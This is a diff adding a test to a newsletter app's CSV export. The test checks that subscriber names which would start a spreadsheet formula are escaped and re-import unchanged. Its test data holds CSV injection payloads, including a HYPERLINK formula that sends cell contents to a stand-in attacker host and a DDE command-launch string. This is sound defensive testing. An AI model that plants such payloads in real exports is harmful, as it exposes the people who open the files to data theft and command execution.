@@ -192,3 +192,34 @@ test('CLI: subscribers import FILE.csv --newsletter SLUG [--confirmed], with pro
   assert.equal(await runCommand(['subscribers', 'export', '--newsletter', 'good-news', '--output', 'out.csv'], dir, out, t.deps), 0);
   assert.match(fs.readFileSync(path.join(dir, 'out.csv'), 'utf8'), /cli\.one@example\.org,Cli One,good-news/);
 });
+
+test('export: names that would start a spreadsheet formula are written as text, and re-import unchanged (issue 9)', { timeout: 30_000 }, async () => {
+  const { signup } = await import('../src/newsletters/signup.ts');
+  const { readSubscriberCsv } = await import('../src/newsletters/subscribers.ts');
+  const planted: Array<[string, string]> = [
+    ['formula.eq@example.org', '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
+    ['formula.plus@example.org', '+1+cmd|\' /C calc\'!A0'],
+    ['formula.minus@example.org', '-2+3'],
+    ['formula.at@example.org', '@SUM(A1:A9)'],
+    ['formula.wide@example.org', '＝1+1'],
+    ['plain.name@example.org', 'Ann O\'Neill'],
+  ];
+  // Unauthenticated sign-ups can plant these (names are free text).
+  for (const [email, name] of planted) await signup(t.deps, { email, name, newsletters: ['daily'] });
+  const { csv } = await exportSubscribersCsv(db);
+  const rows = parse(csv, { columns: true }) as Record<string, string>[];
+  for (const [email, name] of planted) {
+    const row = rows.find((r) => r.email === email)!;
+    assert.ok(row, email);
+    if (email === 'plain.name@example.org') assert.equal(row.name, name, 'ordinary names are untouched');
+    else {
+      assert.equal(row.name, `'${name}`, `${email}: written with a leading apostrophe`);
+      assert.doesNotMatch(row.name, /^[=+\-@\uFF1D]/);
+    }
+  }
+  // No cell of the whole file starts a formula.
+  for (const r of parse(csv) as string[][]) for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/, cell);
+  // Our importer reads the export back to the names as typed.
+  const back = readSubscriberCsv(csv).rows;
+  for (const [email, name] of planted) assert.equal(back.find((r) => r.email === email)!.name, name);
+});
